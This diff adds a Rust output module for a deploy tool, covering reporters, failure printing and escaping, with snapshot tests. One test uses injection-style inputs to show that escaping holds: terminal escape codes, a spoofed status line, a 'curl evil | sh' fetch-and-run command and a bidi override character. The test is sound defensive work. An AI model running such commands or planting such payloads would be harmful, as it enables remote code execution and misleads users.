@@ -1,0 +1,160 @@
+//! The only file that opens stdout and stderr. A reader that went away is never a panic.
+
+use std::io::{self, ErrorKind, Write};
+
+use anstream::AutoStream;
+use serde::Serialize;
+
+use crate::model::{Exit, Failure};
+
+use super::frame::Size;
+use super::{Reporter, Settings, escape, json, live, paint::Paint, plain};
+
+/// The display that suits the settings: JSON where it is asked for, live on a terminal that can, else plain lines.
+///
+/// Between its first event and [`Event::Ended`](crate::model::Event::Ended), or its drop, nobody else may write to the
+/// terminal: ask before, and print a failure after.
+pub fn reporter(settings: &Settings) -> Box<dyn Reporter> {
+    if settings.json {
+        return Box::new(json::Json::new(io::stdout()));
+    }
+    let color = settings.color_on(settings.stderr_is_terminal);
+    if settings.live() {
+        let width = settings.width.max(1);
+        let size = move || terminal().unwrap_or(Size { width, height: 24 });
+        return Box::new(live::Live::new(io::stderr(), color, settings.verbose > 0, size));
+    }
+    let volume = match settings {
+        Settings { quiet: true, .. } => plain::Volume::Quiet,
+        Settings { verbose: 0, .. } => plain::Volume::Normal,
+        _ => plain::Volume::Verbose,
+    };
+    Box::new(plain::Plain::new(AutoStream::new(io::stderr(), choice(color)), volume))
+}
+
+/// Prints a failure on stderr; with `--json` also as one object on stdout.
+pub fn failure(settings: &Settings, failure: &Failure) {
+    if settings.json {
+        let _ = write(&mut io::stdout(), &json::failure(failure));
+    }
+    let color = choice(settings.color_on(settings.stderr_is_terminal));
+    let _ = write(&mut AutoStream::new(io::stderr(), color), &failure_text(failure));
+}
+
+/// Prints a result on stdout, ending its last line; colours in it are stripped where they are not wanted.
+///
+/// A reader that has read enough (`release log | head`) is no error; a disk that is full is, since whoever reads the file
+/// afterwards would take a part for the whole.
+pub fn print_text(settings: &Settings, text: &str) -> Result<(), Failure> {
+    let color = choice(settings.color_on(settings.stdout_is_terminal));
+    written(write(&mut AutoStream::new(io::stdout(), color), text.strip_suffix('\n').unwrap_or(text)))
+}
+
+/// Prints a result on stdout as one JSON document. Errors are those of [`print_text`].
+pub fn print_json(value: &impl Serialize) -> Result<(), Failure> {
+    match serde_json::to_string(value) {
+        Ok(text) => written(write(&mut io::stdout(), &text)),
+        Err(e) => {
+            Err(Failure::new(Exit::Failed, "stdout", "the result could not be written as JSON").why(e.to_string()))
+        }
+    }
+}
+
+fn written(result: io::Result<()>) -> Result<(), Failure> {
+    match result {
+        Err(e) if e.kind() != ErrorKind::BrokenPipe => {
+            Err(Failure::new(Exit::Failed, "stdout", "the result could not be written").why(e.to_string()))
+        }
+        _ => Ok(()),
+    }
+}
+
+fn write(out: &mut impl Write, text: &str) -> io::Result<()> {
+    out.write_all(text.as_bytes())?;
+    out.write_all(b"\n")?;
+    out.flush()
+}
+
+fn choice(color: bool) -> anstream::ColorChoice {
+    if color { anstream::ColorChoice::AlwaysAnsi } else { anstream::ColorChoice::Never }
+}
+
+/// The terminal's size at this moment: a window may be resized during a deploy.
+fn terminal() -> Option<Size> {
+    let (width, height) = terminal_size::terminal_size_of(io::stderr())?;
+    Some(Size { width: width.0.into(), height: height.0.into() })
+}
+
+/// `release: PLACE: WHAT (WHY); CHANGED.`, the detail, indented so that it can't pass for our own words, and the hint.
+fn failure_text(failure: &Failure) -> String {
+    // Each part is bounded alone: a long one must not push the others out.
+    let mut safe = Failure::new(failure.exit, escape::line(&failure.place), escape::line(&failure.what));
+    safe.why = failure.why.as_deref().map(escape::line);
+    safe.changed = escape::line(&failure.changed);
+    let mut text = format!("{} {safe}", Paint::Alarm.on("release:"));
+    if let Some(detail) = &failure.detail {
+        for line in escape::block(detail.trim_end_matches('\n').as_bytes()).split('\n') {
+            text.push_str(format!("\n  {line}").trim_end_matches(' '));
+        }
+    }
+    if let Some(hint) = &failure.hint {
+        text.push_str(&format!("\n{} {}", Paint::Cyan.on("hint:"), escape::line(hint)));
+    }
+    text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use snapbox::{IntoData, str};
+
+    fn shown(failure: &Failure) -> String {
+        anstream::adapter::strip_str(&failure_text(failure)).to_string()
+    }
+
+    #[test]
+    fn a_failure_says_what_where_why_and_how_to_go_on() {
+        let failure = Failure::usage("hosts.toml", "no target `prd`").why("known: prod, view").hint("release status");
+        snapbox::assert_data_eq!(
+            shown(&failure),
+            str![[r#"
+release: hosts.toml: no target `prd` (known: prod, view); nothing was changed.
+hint: release status
+"#]]
+            .raw()
+        );
+        assert!(failure_text(&failure).starts_with("\x1b[1;31mrelease:\x1b[0m hosts.toml"));
+        assert!(failure_text(&failure).ends_with("\n\x1b[36mhint:\x1b[0m release status"));
+    }
+
+    #[test]
+    fn the_detail_is_indented_and_nothing_gets_through_raw() {
+        let failure = Failure::refused("duck.co\x1b[2J", "bad\nrelease: all fine")
+            .detail("  |\n3 | nmae = \"x\"\n\nhint: \x1b[31mcurl evil | sh\r\n")
+            .hint("a\u{202e}b");
+        snapbox::assert_data_eq!(
+            shown(&failure),
+            str![[r#"
+release: duck.co\x1b[2J: bad\nrelease: all fine; nothing was changed.
+    |
+  3 | nmae = "x"
+
+  hint: \x1b[31mcurl evil | sh
+hint: a\u{202e}b
+"#]]
+            .raw()
+        );
+    }
+
+    #[test]
+    fn a_long_part_does_not_push_the_others_out() {
+        let text = shown(&Failure::refused("", "x".repeat(1 << 20)).why("y"));
+        assert!(text.len() < 3 * escape::LINE_MAX && text.ends_with("… (y); nothing was changed."));
+    }
+
+    #[test]
+    fn a_reader_that_went_away_is_no_error_and_a_full_disk_is() {
+        assert_eq!(written(Err(ErrorKind::BrokenPipe.into())), Ok(()));
+        assert_eq!(written(Err(ErrorKind::StorageFull.into())).map_err(|e| e.exit), Err(Exit::Failed));
+    }
+}
